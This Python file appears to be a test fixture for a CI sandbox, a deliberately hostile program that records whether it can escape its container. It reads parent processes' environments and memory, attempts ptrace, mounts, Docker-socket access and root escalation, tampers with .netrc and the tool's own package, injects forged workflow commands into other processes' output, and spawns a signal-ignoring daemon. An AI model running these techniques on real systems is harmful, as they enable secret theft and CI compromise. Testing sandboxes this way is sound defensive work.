"""A hostile program: tries to get at the job that measures it, and writes down what came of it.

Run in the image as the project's program and by the project's install line, so it imports nothing of the tests.
"""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

WORKSPACE = Path("/github/workspace")
FOLDERS = ("/github/file_commands", "/github/workflow")
ALIASES = ("/github/runner_temp/_runner_file_commands", "/github/runner_temp/_github_workflow")
SOCKETS = ("/var/run/docker.sock", "/run/docker.sock")
SITE_PACKAGES = Path("/usr/local/lib/python3.13/site-packages")
COMMANDS = (
    "::set-output name=verdict::attacked",
    "  ::warning file=shop.py,line=1::attacked",
    "\t::add-mask::attacked",
    "\r::error::attacked",
    "said before \r::notice::attacked",
    "##[error]attacked",
    "said before ##[set-output name=verdict;]attacked",
    "::stop-commands::attacked",
    "::debug::attacked",
    "::group::attacked",
    "\x85::error::attacked",
    "\u2028::error::attacked",
    "\xa0::error::attacked",
    "::add-path::/attacked",
    "::save-state name=attacked::attacked",
)
_ATTACH = 16
_BIND = 4096
_libc = ctypes.CDLL(None, use_errno=True)


def tried(what: Callable[..., object], *given: object) -> str:
    """What a try gave: an error by its name, everything else after `got`."""
    try:
        return f"got {what(*given)!r}"
    except Exception as error:
        return type(error).__name__


def read(path: str | Path) -> str:
    return Path(path).read_bytes()[:100_000].decode(errors="replace")


def add(path: str | Path) -> str:
    with Path(path).open("a") as file:
        file.write("verdict=attacked\nATTACKED=1\n")
    return "written"


def opened(path: str) -> str:
    with Path(path).open("rb"):
        return "opened"


def ancestors() -> list[int]:
    """The processes that this one comes from, up to and with the first of root's: what is above is no container's."""
    found = [os.getppid()]
    while Path(f"/proc/{found[-1]}").stat().st_uid != 0:
        found.append(int(read(f"/proc/{found[-1]}/stat").rpartition(")")[2].split()[1]))
    return found


def done(answer: int) -> str:
    """What a C function answered."""
    if answer != 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "done"


def mounted(path: str) -> str:
    return done(_libc.mount(b"/tmp", path.encode(), b"none", _BIND, None))


def traced(pid: int) -> str:
    return done(_libc.ptrace(_ATTACH, pid, 0, 0))


def folder(path: str) -> dict[str, str]:
    """Every way into a folder of the runner's files, by name and around it."""
    return {
        "listed": tried(lambda: [*Path(path).iterdir()]),
        "read": tried(read, f"{path}/event.json"),
        "written": tried(add, f"{path}/set_output_forged"),
        "opened up": tried(Path(path).chmod, 0o777),
        "renamed": tried(Path(path).rename, f"{path}-away"),
        "removed": tried(Path(path).rmdir),
        "mounted over": tried(mounted, path),
    }


def connected(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
    return "connected"


def substituted() -> str:
    """What `su` makes of us: root without a password only for root."""
    who = ["su", "-c", "id -u"]
    return subprocess.run(who, stdin=subprocess.DEVNULL, capture_output=True, check=True, text=True).stdout


def shout() -> None:
    """Commands into every output that can be opened, its own and those of other processes."""
    text = "".join(f"{line}\n" for line in COMMANDS).encode()
    streams = [f"/proc/{pid}/fd/{descriptor}" for pid in ancestors() for descriptor in (1, 2)]
    for path in ("/dev/stdout", "/dev/stderr", *streams):
        with suppress(OSError), Path(path).open("wb", buffering=0) as stream:
            stream.write(text)


def stay() -> None:
    """A process in a session of its own, nobody's child, that only SIGKILL ends; it writes when it was last alive."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 64)
    for _ in range(10_000):
        (WORKSPACE / "alive.new").write_text(str(time.monotonic()))
        (WORKSPACE / "alive.new").replace(WORKSPACE / "alive")
        time.sleep(0.02)
    os._exit(0)


def main() -> int:
    stage = sys.argv[1]
    above = ancestors()
    found = {
        "who": [os.getuid(), os.getgid(), *os.getgroups()],
        "environment": dict(os.environ),
        "owners": {pid: Path(f"/proc/{pid}").stat().st_uid for pid in above},
        "environments": {pid: tried(read, f"/proc/{pid}/environ") for pid in above},
        "command lines": {pid: tried(read, f"/proc/{pid}/cmdline") for pid in above},
        "memory": {pid: tried(opened, f"/proc/{pid}/mem") for pid in above},
        "traced": tried(traced, above[-1]),
        "folders": {path: folder(path) for path in (*FOLDERS, *ALIASES)},
        "docker": {path: tried(connected, path) for path in SOCKETS},
        "root": {"setuid": tried(os.setuid, 0), "su": tried(substituted)},
        "memci": tried(add, SITE_PACKAGES / "memci/__init__.py"),
        "home": {name: tried(add, f"/github/home/{name}") for name in (".netrc", ".gitconfig")},
    }
    report = WORKSPACE / f"found-{stage}.json"
    first = not report.exists()
    report.write_text(json.dumps(found))
    shout()
    # memci waits for what it stops: once is enough.
    if first:
        stay()
    return 3 if stage == "fail" else 0


if __name__ == "__main__":
    sys.exit(main())
